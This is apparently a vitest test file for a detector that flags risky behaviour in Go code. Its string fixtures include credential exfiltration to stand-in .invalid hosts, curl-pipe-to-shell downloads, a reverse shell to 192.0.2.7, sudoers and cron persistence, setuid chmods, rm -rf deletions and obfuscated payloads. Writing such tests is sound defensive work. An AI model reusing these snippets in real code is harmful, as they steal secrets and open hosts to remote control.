import "@/lib/guard/node";
import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { loadGrammars } from "../parse/runtime";
import type { FileKind } from "../parse/classify";
import { FactCollector, FILE_CONTEXT, type Extractor } from "./extract";
import { extractGo } from "./go";
import { analyzeArgv } from "./shell";
import type { ContextFact, Fact, FactOf, Folded } from "./types";

// The shell extractor is written next door; here only what Go hands to it is checked.
vi.mock("./shell", () => ({ analyzeArgv: vi.fn(), extractShell: vi.fn(), extractBatch: vi.fn() }));

beforeAll(() => loadGrammars(["go"]));
beforeEach(() => vi.mocked(analyzeArgv).mockClear());

type Run = { facts: ContextFact[]; embedded: { kind: FileKind; text: string }[] };

/** Runs the extractor over one file, or several in order (a package split across files). */
function run(code: string | Record<string, string>, path = "tool/main.go"): Run {
  const files = typeof code === "string" ? { [path]: code } : code;
  const embedded: { kind: FileKind; text: string }[] = [];
  const record = (kind: FileKind): Extractor => (s) => void embedded.push({ kind, text: s.text });
  const collector = new FactCollector(new Set(Object.keys(files)), { go: extractGo, shell: record("shell"), powershell: record("powershell"), crontab: record("crontab"), json: record("json") });
  for (const [p, text] of Object.entries(files)) collector.run("go", { path: p, text, line: 1, via: [], ctx: FILE_CONTEXT, depth: 0 });
  return { facts: collector.facts, embedded };
}

function of<K extends Fact["kind"]>(r: Run, kind: K): (FactOf<K> & ContextFact)[] {
  return r.facts.filter((f): f is FactOf<K> & ContextFact => f.kind === kind);
}

function sources(f: Folded | null): string[] {
  return (f?.taint ?? []).map((t) => `${t.source}:${t.detail}`);
}

function argvs(): string[][] {
  return vi.mocked(analyzeArgv).mock.calls.map((c) => c[0].map((a) => a.text));
}

/** A main package around a body. */
function main(body: string, imports = `"bytes"\n"encoding/base64"\n"encoding/hex"\n"fmt"\n"io"\n"net"\n"net/http"\n"os"\n"os/exec"\n"path/filepath"\n"strings"\n"syscall"`): string {
  return `package main\n\nimport (\n${imports}\n)\n\nfunc main() {\n${body}\n}\n`;
}

const b64 = (s: string) => Buffer.from(s).toString("base64");

describe("folding constants", () => {
  it("reads interpreted and raw strings, + and +=", () => {
    const r = run(main('cmd := "curl " + `https://a.invalid/x`\ncmd += " | sh"\nexec.Command("sh", "-c", cmd).Run()'));
    const e = of(r, "exec")[0]!;
    expect(e.lang).toBe("shell");
    expect(e.command.text).toBe("sh -c curl https://a.invalid/x | sh");
    expect(argvs()).toEqual([["sh", "-c", "curl https://a.invalid/x | sh"]]);
  });

  it("decodes escapes and marks letters spelled as escapes", () => {
    const r = run(main('exec.Command("\\x63url", "https://b.invalid\\n").Run()'));
    const e = of(r, "exec")[0]!;
    expect(e.command.text).toBe("curl https://b.invalid\n");
    expect(e.command.via).toContain("escape");
  });

  it("formats fmt.Sprintf with %s, %d, %v and %q", () => {
    const r = run(main('u := fmt.Sprintf("https://%s:%d/%v?q=%q", "c.invalid", 8443, "p", "x")\nhttp.Get(u)'));
    expect(of(r, "fetch")[0]?.url).toBe('https://c.invalid:8443/p?q="x"');
  });

  it("folds strings.Join, Replace, ReplaceAll and Repeat", () => {
    const r = run(main('parts := []string{"cu", "rl"}\nname := strings.Join(parts, "")\nhost := strings.ReplaceAll("d_invalid", "_", ".")\npad := strings.Repeat("a", 3)\ntail := strings.Replace("x-y-z", "-", "/", 1)\nexec.Command(name, "https://"+host+"/"+pad+tail).Run()'));
    expect(of(r, "exec")[0]?.command.text).toBe("curl https://d.invalid/aaax/y-z");
  });

  it("turns byte slices of numbers into text marked as char codes", () => {
    const r = run(main("h := string([]byte{0x65, 0x2e, 0x69, 0x6e, 0x76, 0x61, 0x6c, 0x69, 0x64})\nhttp.Get(\"https://\" + h)"));
    expect(of(r, "fetch")[0]?.url).toBe("https://e.invalid");
    const q = run(main("p := string([]byte{'/', 'b', 'i', 'n', '/', 's', 'h'})\nexec.Command(p).Run()"));
    expect(of(q, "exec")[0]?.command.text).toBe("/bin/sh");
    expect(of(q, "exec")[0]?.command.via).not.toContain("charcode");
  });

  it("converts runes and []byte literals", () => {
    const r = run(main('exec.Command(string(rune(105)) + "d", string([]byte("-a"))).Run()'));
    expect(of(r, "exec")[0]?.command.text).toBe("id -a");
  });

  it("uses package-level const and var blocks, several names at once", () => {
    const r = run(`package main\n\nimport "net/http"\n\nconst (\n\tscheme, host = "https://", "f.invalid"\n)\n\nvar path = "/api"\n\nfunc main() { http.Get(scheme + host + path) }\n`);
    expect(of(r, "fetch")[0]?.url).toBe("https://f.invalid/api");
  });

  it("builds strings in a strings.Builder", () => {
    const r = run(main('var sb strings.Builder\nsb.WriteString("curl -s https://g.invalid")\nsb.WriteString(" | bash")\nexec.Command("bash", "-c", sb.String()).Run()'));
    expect(of(r, "exec")[0]?.command.text).toBe("bash -c curl -s https://g.invalid | bash");
  });

  it("decodes base64 (every encoding) and hex literals, and marks the command dynamic", () => {
    const r = run(main(`a, _ := base64.StdEncoding.DecodeString("${b64("curl https://h.invalid | sh")}")\nexec.Command("sh", "-c", string(a)).Run()\nb, _ := hex.DecodeString("${Buffer.from("wget https://i.invalid").toString("hex")}")\nexec.Command("sh", "-c", string(b)).Run()\nc, _ := base64.RawURLEncoding.DecodeString("${b64("id").replace(/=+$/, "")}")\nexec.Command("sh", "-c", string(c)).Run()`));
    const e = of(r, "exec");
    expect(e.map((x) => x.command.text)).toEqual(["sh -c curl https://h.invalid | sh", "sh -c wget https://i.invalid", "sh -c id"]);
    expect(e.map((x) => x.command.via)).toEqual([["base64"], ["hex"], ["base64"]]);
    expect(e.every((x) => x.dynamic)).toBe(true);
  });

  it("follows import aliases", () => {
    const r = run(`package main\n\nimport (\n\tb "encoding/base64"\n\tx "os/exec"\n)\n\nfunc main() {\n\tc, _ := b.StdEncoding.DecodeString("${b64("uname -a")}")\n\tx.Command("sh", "-c", string(c)).Run()\n}\n`);
    expect(of(r, "exec")[0]?.command.text).toBe("sh -c uname -a");
  });

  it("evaluates local functions with their arguments, and parameters from call sites", () => {
    const r = run(`package main\n\nimport "os/exec"\n\nfunc url(h string) string { return "https://" + h + "/p" }\n\nfunc run(c string) { exec.Command("sh", "-c", c).Run() }\n\nfunc main() { run("curl " + url("j.invalid")) }\n`);
    expect(of(r, "exec").map((e) => e.command.text)).toContain("sh -c curl https://j.invalid/p");
  });

  it("expands variadic arguments built with append", () => {
    run(main('args := []string{"-rf"}\nargs = append(args, "/opt/x")\nexec.Command("rm", args...).Run()'));
    expect(argvs()[0]?.slice(0, 3)).toEqual(["rm", "-rf", "/opt/x"]);
  });
});

describe("sources of private data", () => {
  it("taints secret-named environment variables and not ordinary ones", () => {
    const r = run(main('tok := os.Getenv("GITHUB_TOKEN")\nlang := os.Getenv("LANG")\nhttp.Post("https://k.invalid/c", "text/plain", strings.NewReader(tok+lang))'));
    expect(sources(of(r, "send")[0]!.data)).toEqual(["env-secret:GITHUB_TOKEN"]);
  });

  it("reads sensitive files at paths built from HOME, UserHomeDir, user.Current and ~", () => {
    const r = run(main('a, _ := os.ReadFile(filepath.Join(os.Getenv("HOME"), ".ssh", "id_rsa"))\nhome, _ := os.UserHomeDir()\nb, _ := os.ReadFile(filepath.Join(home, ".aws/credentials"))\nu, _ := user.Current()\nc, _ := os.ReadFile(u.HomeDir + "/.kube/config")\n_ = a\n_ = b\n_ = c', '"os"\n"os/user"\n"path/filepath"'));
    expect(of(r, "read").map((f) => `${f.source}:${f.detail}`)).toEqual(["ssh:~/.ssh/id_rsa", "cloud:~/.aws/credentials", "kube:~/.kube/config"]);
  });

  it("reads the whole environment with os.Environ", () => {
    const r = run(main('env := strings.Join(os.Environ(), "\\n")\nhttp.Post("https://l.invalid", "text/plain", strings.NewReader(env))'));
    expect(of(r, "read")[0]?.source).toBe("env-all");
    expect(sources(of(r, "send")[0]!.data)).toEqual(["env-all:os.Environ()"]);
  });

  it("taints host information", () => {
    const r = run(main('h, _ := os.Hostname()\nnet.LookupHost(h + ".m.invalid")'));
    const s = of(r, "send")[0]!;
    expect(s.channel).toBe("dns");
    expect(s.host).toBe("m.invalid");
    expect(sources(s.data)).toEqual(["host-info:hostname"]);
  });

  it("taints the output of commands that print credentials", () => {
    const r = run(main('out, _ := exec.Command("security", "find-generic-password", "-wa", "x").Output()\nhttp.Post("https://n.invalid", "text/plain", bytes.NewReader(out))'));
    expect(sources(of(r, "send")[0]!.data)[0]).toMatch(/^keychain:security find-generic-password/);
  });

  it("taints the output of a program picked from a list, as any one of them may run", () => {
    const r = run(main('readers := [][]string{{"clip-helper", "-o"}, {"pbpaste"}}\nfor _, rd := range readers {\n  if out, err := exec.Command(rd[0], rd[1:]...).Output(); err == nil {\n    http.Post("https://n.invalid", "text/plain", bytes.NewReader(out))\n  }\n}'));
    expect(sources(of(r, "send")[0]!.data).map((s) => s.split(":")[0])).toEqual(["clipboard"]);
  });

  it("lists private folders read by ReadDir and Walk", () => {
    const r = run(main('os.ReadDir(filepath.Join(os.Getenv("HOME"), ".ssh"))'));
    expect(of(r, "read")[0]?.detail).toBe("~/.ssh (listing)");
  });
});

describe("network sinks", () => {
  it("states a GET as a fetch, and as a send when private data rides in the URL", () => {
    const r = run(main('http.Get("https://o.invalid/latest.json")\nk := os.Getenv("OPENAI_API_KEY")\nhttp.Get("https://p.invalid/?k=" + k)'));
    expect(of(r, "fetch").map((f) => f.host)).toEqual(["o.invalid", "p.invalid"]);
    expect(of(r, "send").map((s) => [s.host, sources(s.data)])).toEqual([["p.invalid", ["env-secret:OPENAI_API_KEY"]]]);
  });

  it("joins NewRequest, header and query writes and client.Do into one send", () => {
    const r = run(main('req, _ := http.NewRequest("GET", "https://q.invalid/v1", nil)\nq := req.URL.Query()\nq.Set("ctx", os.Getenv("AWS_SECRET_ACCESS_KEY"))\nreq.URL.RawQuery = q.Encode()\nreq.Header.Set("X-Id", os.Getenv("NPM_TOKEN"))\nc := &http.Client{}\nc.Do(req)'));
    const s = of(r, "send")[0]!;
    expect(s.dest).toBe("https://q.invalid/v1");
    expect(sources(s.data).sort()).toEqual(["env-secret:AWS_SECRET_ACCESS_KEY", "env-secret:NPM_TOKEN"]);
  });

  it("sends POST bodies through http.Post, PostForm, NewRequestWithContext and DefaultClient", () => {
    const r = run(main('body := os.Getenv("DB_PASSWORD")\nhttp.PostForm("https://r.invalid/f", url.Values{"p": {body}})\nreq, _ := http.NewRequestWithContext(ctx, "POST", "https://s.invalid/u", bytes.NewBufferString(body))\nhttp.DefaultClient.Do(req)', '"bytes"\n"net/http"\n"net/url"\n"os"'));
    expect(of(r, "send").map((s) => [s.host, sources(s.data)])).toEqual([
      ["r.invalid", ["env-secret:DB_PASSWORD"]],
      ["s.invalid", ["env-secret:DB_PASSWORD"]],
    ]);
  });

  it("sends what is written to a socket (Write, Fprintf, io.Copy)", () => {
    const r = run(main('conn, _ := net.Dial("tcp", "192.0.2.10:4444")\nconn.Write([]byte(os.Getenv("API_KEY")))\nfmt.Fprintf(conn, "%s\\n", "hello")\nf, _ := os.Open(filepath.Join(os.Getenv("HOME"), ".ssh/id_ed25519"))\nio.Copy(conn, f)'));
    const sends = of(r, "send");
    expect(sends.map((s) => [s.channel, s.host])).toEqual([["socket", "192.0.2.10"], ["socket", "192.0.2.10"], ["socket", "192.0.2.10"]]);
    expect(sources(sends[0]!.data)).toEqual(["env-secret:API_KEY"]);
    expect(sends[1]!.data?.text).toBe("hello\n");
    expect(sources(sends[2]!.data)).toEqual(["ssh:~/.ssh/id_ed25519"]);
  });

  it("sends mail with smtp.SendMail and messages over websockets", () => {
    const r = run(main('msg := []byte(os.Getenv("STRIPE_SECRET_KEY"))\nsmtp.SendMail("mail.t.invalid:587", nil, "a@t.invalid", []string{"b@t.invalid"}, msg)\nws, _, _ := websocket.DefaultDialer.Dial("wss://u.invalid/ws", nil)\nws.WriteMessage(websocket.TextMessage, msg)', '"net/smtp"\n"os"\n"github.com/gorilla/websocket"'));
    expect(of(r, "send").map((s) => [s.channel, s.host, sources(s.data)])).toEqual([
      ["smtp", "mail.t.invalid", ["env-secret:STRIPE_SECRET_KEY"]],
      ["websocket", "u.invalid", ["env-secret:STRIPE_SECRET_KEY"]],
    ]);
  });

  it("states no send for a plain download or an untainted DNS lookup", () => {
    const r = run(main('resp, _ := http.Get("https://api.github.com/repos/o/r/releases/latest")\ndefer resp.Body.Close()\nnet.LookupHost("example.com")'));
    expect(of(r, "send")).toEqual([]);
    expect(of(r, "fetch")).toHaveLength(1);
  });
});

describe("download and execute", () => {
  it("runs a downloaded body in a shell", () => {
    const r = run(main('resp, _ := http.Get("https://v.invalid/i.sh")\nbody, _ := io.ReadAll(resp.Body)\nexec.Command("sh", "-c", string(body)).Run()'));
    const e = of(r, "exec")[0]!;
    expect(e.fetched).toBe("https://v.invalid/i.sh");
    expect(e.dynamic).toBe(true);
  });

  it("saves a download to a file and runs the file", () => {
    const r = run(main('resp, _ := http.Get("https://w.invalid/agent")\nout, _ := os.Create("/tmp/agent")\nio.Copy(out, resp.Body)\nout.Close()\nos.Chmod("/tmp/agent", 0755)\nexec.Command("/tmp/agent").Start()'));
    expect(of(r, "exec")[0]?.fetched).toBe("https://w.invalid/agent");
    expect(of(r, "fetch").map((f) => f.saveTo)).toContain("/tmp/agent");
  });

  it("pipes a download into a shell's stdin", () => {
    const r = run(main('resp, _ := http.Get("https://x.invalid/s")\ncmd := exec.Command("bash")\ncmd.Stdin = resp.Body\ncmd.Run()'));
    expect(of(r, "exec").find((e) => e.fetched)?.fetched).toBe("https://x.invalid/s");
  });
});

describe("commands", () => {
  it("hands argv commands to the shell's argument analysis", () => {
    run(main('exec.Command("crontab", "-").Run()\nexec.CommandContext(ctx, "chmod", "4755", "/tmp/x").Run()\nsyscall.Exec("/bin/rm", []string{"rm", "-rf", "/"}, nil)'));
    expect(argvs()).toEqual([["crontab", "-"], ["chmod", "4755", "/tmp/x"], ["/bin/rm", "-rf", "/"]]);
  });

  it("names the interpreter a command runs in", () => {
    const r = run(main('exec.Command("python3", "-c", "print(1)").Run()\nexec.Command("powershell", "-c", "Get-Date").Run()\nexec.Command("git", "status").Run()'));
    expect(of(r, "exec").map((e) => e.lang)).toEqual(["python", "powershell", "binary"]);
  });
});

describe("files", () => {
  it("classifies written places and analyses what is written there", () => {
    const r = run(main('home, _ := os.UserHomeDir()\nos.WriteFile(filepath.Join(home, ".bashrc"), []byte("curl -s https://y.invalid/p | sh\\n"), 0644)'));
    const w = of(r, "write")[0]!;
    expect([w.path, w.place, w.mode]).toEqual(["~/.bashrc", "shell-rc", "write"]);
    expect(r.embedded).toEqual([{ kind: "shell", text: "curl -s https://y.invalid/p | sh\n" }]);
  });

  it("gathers appends to a file opened with O_APPEND", () => {
    const r = run(main('f, _ := os.OpenFile(os.Getenv("HOME")+"/.ssh/authorized_keys", os.O_APPEND|os.O_WRONLY|os.O_CREATE, 0600)\nf.WriteString("ssh-ed25519 AAAA k@z.invalid\\n")\nf.Close()'));
    const w = of(r, "write")[0]!;
    expect([w.path, w.place, w.mode, w.content?.text]).toEqual(["~/.ssh/authorized_keys", "authorized-keys", "append", "ssh-ed25519 AAAA k@z.invalid\n"]);
  });

  it("joins fmt.Fprintf into a created file", () => {
    const r = run(main('f, _ := os.Create("/etc/cron.d/upd")\nfmt.Fprintf(f, "*/5 * * * * root %s\\n", "/opt/u.sh")'));
    const w = of(r, "write")[0]!;
    expect([w.place, w.content?.text]).toEqual(["cron", "*/5 * * * * root /opt/u.sh\n"]);
  });

  it("reads a file opened read-only with OpenFile", () => {
    const r = run(main('os.OpenFile(filepath.Join(os.Getenv("HOME"), ".git-credentials"), os.O_RDONLY, 0)'));
    expect(of(r, "read")[0]?.source).toBe("git-creds");
    expect(of(r, "write")).toEqual([]);
  });

  it("states sudoers writes and NOPASSWD", () => {
    const r = run(main('os.WriteFile("/etc/sudoers.d/dev", []byte("dev ALL=(ALL) NOPASSWD: ALL\\n"), 0440)'));
    expect(of(r, "privilege").map((p) => p.what)).toEqual(["sudoers", "nopasswd"]);
  });

  it("states setuid modes in octal, decimal and constants, and world-writable system paths", () => {
    const r = run(main('os.Chmod("/tmp/.s", 0o4755)\nsyscall.Chmod("/tmp/.t", 2541)\nos.Chmod("/usr/local/bin/x", 0777)\nos.Chmod("/tmp/y", 0777)\nos.Chmod("./build.sh", 0755)'));
    expect(of(r, "privilege").map((p) => `${p.what} ${p.detail}`)).toEqual(["setuid chmod 0o4755 /tmp/.s", "setuid chmod 0o4755 /tmp/.t", "world-writable-system chmod 0o777 /usr/local/bin/x"]);
    expect(of(r, "write").filter((w) => w.mode === "chmod")).toHaveLength(5);
  });

  it("states links and renames", () => {
    const r = run(main('os.Symlink("/opt/x/hook.sh", ".git/hooks/pre-commit")\nos.Rename("/tmp/u.service", "/etc/systemd/system/u.service")'));
    expect(of(r, "write").map((w) => [w.mode, w.place])).toEqual([["link", "git-hook"], ["copy", "systemd"]]);
  });
});

describe("deletes and privilege", () => {
  it("states deletes with their scope", () => {
    const r = run(main('home, _ := os.UserHomeDir()\nos.RemoveAll(home)\nos.RemoveAll("/")\nos.Remove("./build/out.txt")'));
    expect(of(r, "delete").map((d) => [d.path, d.scope])).toEqual([["~", "home"], ["/", "root"], ["./build/out.txt", "other"]]);
  });

  it("states a walk that removes what it visits as a delete of its root", () => {
    const r = run(main('home, _ := os.UserHomeDir()\nfilepath.Walk(home, func(p string, info os.FileInfo, err error) error {\n\treturn os.RemoveAll(p)\n})'));
    expect(of(r, "delete").map((d) => d.scope)).toContain("home");
  });

  it("states setuid(0)", () => {
    const r = run(main("syscall.Setuid(0)\nsyscall.Setuid(1000)"));
    expect(of(r, "privilege").map((p) => p.detail)).toEqual(["syscall.Setuid(0)"]);
  });
});

describe("remote shells", () => {
  it("states a shell wired to a connection", () => {
    const r = run(main('c, _ := net.Dial("tcp", "192.0.2.7:9001")\ncmd := exec.Command("/bin/sh", "-i")\ncmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\ncmd.Run()'));
    expect(of(r, "remote-shell").map((f) => f.detail)).toEqual([
      "/bin/sh -i with its stdin on a connection to 192.0.2.7:9001",
      "/bin/sh -i with its stdout on a connection to 192.0.2.7:9001",
      "/bin/sh -i with its stderr on a connection to 192.0.2.7:9001",
    ]);
  });

  it("states commands read from a connection and run", () => {
    const r = run(main('c, _ := net.Dial("tcp", "192.0.2.8:53")\nrd := bufio.NewReader(c)\nline, _ := rd.ReadString(\'\\n\')\nexec.Command("sh", "-c", line).Run()', '"bufio"\n"net"\n"os/exec"'));
    expect(of(r, "remote-shell")).toHaveLength(1);
  });
});

describe("other constructs", () => {
  it("states mining pool URLs", () => {
    const r = run(main('pool := "stratum+tcp://pool.invalid:3333"\n_ = pool'));
    expect(of(r, "mine")).toHaveLength(1);
  });

  it("analyses //go:generate commands", () => {
    run('package main\n\n//go:generate sh -c "curl -s https://gen.invalid/x | sh"\n//go:generate stringer -type=Kind\n');
    expect(argvs()).toEqual([["sh", "-c", "curl -s https://gen.invalid/x | sh"], ["stringer", "-type=Kind"]]);
  });

  it("reads shell commands in a cgo preamble", () => {
    const r = run('package main\n\n// #include <stdlib.h>\n// static void up() { system("curl -s https://cgo.invalid | sh"); }\nimport "C"\n\nfunc main() { C.up() }\n');
    expect(of(r, "exec")[0]?.command.text).toBe("curl -s https://cgo.invalid | sh");
    expect(r.embedded.map((e) => e.kind)).toEqual(["shell"]);
  });

  it("uses package-level values of another file of the same package", () => {
    const r = run({
      "tool/consts.go": 'package main\n\nconst endpoint = "https://pkg.invalid/collect"\n',
      "tool/main.go": 'package main\n\nimport (\n\t"net/http"\n\t"os"\n\t"strings"\n)\n\nfunc main() { http.Post(endpoint, "text/plain", strings.NewReader(os.Getenv("SLACK_TOKEN"))) }\n',
    });
    expect(of(r, "send")[0]?.dest).toBe("https://pkg.invalid/collect");
  });

  it("states nothing risky for ordinary code", () => {
    const r = run(main('out, _ := exec.Command("git", "status", "--porcelain").Output()\nfmt.Println(strings.TrimSpace(string(out)))\nb, _ := os.ReadFile("go.mod")\nfmt.Println(len(b))\nos.WriteFile("out/report.txt", b, 0644)'));
    expect(r.facts.filter((f) => f.kind !== "exec" && f.kind !== "write")).toEqual([]);
    expect(of(r, "write")[0]?.place).toBeNull();
  });

  it("does not fail on broken or partial code", () => {
    expect(() => run("package main\nfunc main() { exec.Command(\n")).not.toThrow();
    expect(() => run("x := 1")).not.toThrow();
  });
});

describe("lists, maps and settings", () => {
  const prog = (body: string, extra = "") => `package main\n\nimport (\n\t"bytes"\n\t"net/http"\n\t"os"\n\t"path/filepath"\n\t"strings"\n)\n${extra}\nfunc main() {\n${body}\n}\n`;

  it("each path of a list joined to the home folder is read, through a local helper too", () => {
    const r = run(prog(`\thome, _ := os.UserHomeDir()\n\tfor _, rel := range []string{".gradle/gradle.properties", ".npmrc", ".m2/settings.xml", ".pypirc"} {\n\t\tos.ReadFile(filepath.Join(home, rel))\n\t}\n\tfor _, x := range strings.Split("~/.docker/config.json,~/.claude.json", ",") {\n\t\tos.ReadFile(expand(strings.TrimSpace(x)))\n\t}`, `func expand(p string) string {\n\th, _ := os.UserHomeDir()\n\treturn strings.Replace(p, "~", h, 1)\n}\n`));
    expect(of(r, "read").map((f) => f.detail).sort()).toEqual(["~/.claude.json", "~/.docker/config.json", "~/.npmrc", "~/.pypirc"]);
  });

  it("what is stored in a map travels with the map", () => {
    const r = run(prog(`\traw := map[string]string{}\n\tb, _ := os.ReadFile(os.Getenv("HOME") + "/.npmrc")\n\traw["npmrc"] = string(b)\n\tvar buf bytes.Buffer\n\tfor k, v := range raw {\n\t\tbuf.WriteString(k + v)\n\t}\n\thttp.Post("https://collect.example.invalid/in", "text/plain", &buf)`));
    expect(sources(of(r, "send")[0]!.data)).toContain("pkg-creds:~/.npmrc");
  });

  it("a setting read by name from a map loaded at run time is the skill's value of that name", () => {
    const files = { "tool/recap.env": "BOARD_URL=https://board.example.invalid/api\n", "tool/main.go": prog(`\tcfg := map[string]string{}\n\thttp.Post(cfg["BOARD_URL"], "text/plain", nil)`) };
    const collector = new FactCollector(new Set(Object.keys(files)), { go: extractGo }, new Map(Object.entries(files)));
    collector.run("go", { path: "tool/main.go", text: files["tool/main.go"], line: 1, via: [], ctx: FILE_CONTEXT, depth: 0 });
    expect(collector.facts.filter((f) => f.kind === "send").map((f) => (f as FactOf<"send">).dest)).toEqual(["https://board.example.invalid/api"]);
  });
});

describe("pathological files", () => {
  const chain = (n: number, name = "a") => Array.from({ length: n }, (_, i) => `${name}${i + 1} := ${name}${i}`).join("\n");

  it("a 1,000-deep chain of assignments neither throws nor loses the file's facts", () => {
    const body = `a0 := "curl https://pad.example.invalid/x | sh"\n${chain(1000)}\nhttp.Get("https://early.example.invalid/")\nexec.Command("sh", "-c", a1000).Run()\nhttp.Get("https://late.example.invalid/")`;
    const started = Date.now();
    const r = run(main(body));
    expect(Date.now() - started).toBeLessThan(5000);
    const e = of(r, "exec");
    expect(e).toHaveLength(1);
    expect(e[0]!.command.text.startsWith("sh -c ")).toBe(true);
    expect(of(r, "fetch").map((f) => f.url).sort()).toEqual(["https://early.example.invalid/", "https://late.example.invalid/"]);
  });

  it("a 1,000-deep chain of self-appends and 2,000 nested parentheses do not throw", () => {
    const appends = Array.from({ length: 1000 }, () => `s = s + "a"`).join("\n");
    const parens = `${"(".repeat(2000)}"x"${")".repeat(2000)}`;
    const r = run(main(`s := "curl https://pad.example.invalid/x | sh"\n${appends}\np := ${parens}\nexec.Command("sh", "-c", s).Run()\nexec.Command(p).Run()\nhttp.Get("https://late.example.invalid/")`));
    expect(of(r, "exec")).toHaveLength(2);
    expect(of(r, "fetch").map((f) => f.url)).toEqual(["https://late.example.invalid/"]);
  });

  it("a short chain still folds exactly", () => {
    const r = run(main(`a0 := "curl https://short.example.invalid/x | sh"\n${chain(50)}\nexec.Command("sh", "-c", a50).Run()`));
    expect(of(r, "exec")[0]?.command.text).toBe("sh -c curl https://short.example.invalid/x | sh");
    expect(argvs()).toEqual([["sh", "-c", "curl https://short.example.invalid/x | sh"]]);
  });
});
